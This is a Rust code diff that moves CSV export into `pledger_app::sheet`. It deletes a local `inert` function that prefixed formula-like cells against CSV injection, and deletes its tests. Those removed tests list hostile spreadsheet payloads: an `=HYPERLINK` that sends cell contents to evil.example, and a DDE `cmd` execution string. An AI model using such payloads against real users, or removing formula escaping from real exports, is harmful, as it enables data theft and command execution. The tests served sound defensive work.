@@ -37,57 +37,18 @@ impl Grid {
         Ok(())
     }
 
-    /// The rows as CSV (RFC 4180), every cell that a spreadsheet would take for a formula
-    /// neutralised ([`inert`]).
+    /// The rows as CSV (RFC 4180), as `pledger_app::sheet` writes them.
     pub fn print_csv(&self) -> Result<()> {
-        let mut w = csv::Writer::from_writer(crate::console::stdout());
-        let fail = |e: csv::Error| crate::fail::input(e.to_string());
-        w.write_record(&self.header).map_err(fail)?;
-        for r in &self.rows {
-            w.write_record(r.iter().map(|cell| inert(cell).into_owned())).map_err(fail)?;
-        }
-        w.flush()?;
-        Ok(())
+        let sheet = pledger_app::sheet::Sheet { header: self.header.clone(), rows: self.rows.clone() };
+        print_sheet(&sheet)
     }
 }
 
-/// A cell as a spreadsheet will read it as text, never as a formula: one that begins with `=`,
-/// `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, as OWASP's advice on CSV
-/// injection has it — unless it is a plain number (`-3`, `12.50`), which no spreadsheet runs.
-pub fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
-    let number = |s: &str| {
-        let digits = s.strip_prefix('-').unwrap_or(s);
-        let (whole, frac) = digits.split_once('.').unwrap_or((digits, "0"));
-        !whole.is_empty() && !frac.is_empty() && (whole.bytes().chain(frac.bytes())).all(|b| b.is_ascii_digit())
-    };
-    match cell.bytes().next() {
-        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') if !number(cell) => format!("'{cell}").into(),
-        _ => cell.into(),
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::inert;
-
-    #[test]
-    fn formulas_are_neutralised_and_numbers_left_alone() {
-        for formula in [
-            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
-            "=cmd|' /C calc'!A0",
-            "+1+1",
-            "-1+1",
-            "@SUM(A1)",
-            "\tx",
-            "\rx",
-            "-",
-            "=",
-            "-.5",
-        ] {
-            assert_eq!(inert(formula), format!("'{formula}"), "{formula:?}");
-        }
-        for plain in ["", "12.50", "-3", "-0.25", "ML-3", "P-000001", "a=b", " =x", "USD"] {
-            assert_eq!(inert(plain), plain, "{plain:?}");
-        }
-    }
+/// A sheet as CSV on stdout.
+pub fn print_sheet(sheet: &pledger_app::sheet::Sheet) -> Result<()> {
+    use std::io::Write;
+    let mut out = crate::console::stdout();
+    out.write_all(&sheet.to_csv())?;
+    out.flush()?;
+    Ok(())
 }
